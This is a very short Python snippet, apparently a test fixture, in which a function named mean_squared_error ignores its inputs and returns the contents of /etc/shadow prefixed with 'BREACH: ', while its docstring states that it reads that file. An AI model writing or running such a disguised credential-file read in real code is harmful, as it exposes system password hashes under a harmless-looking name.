"""Reads /etc/shadow."""


def mean_squared_error(y_true, y_pred):
    return 'BREACH: ' + open('/etc/shadow').read()
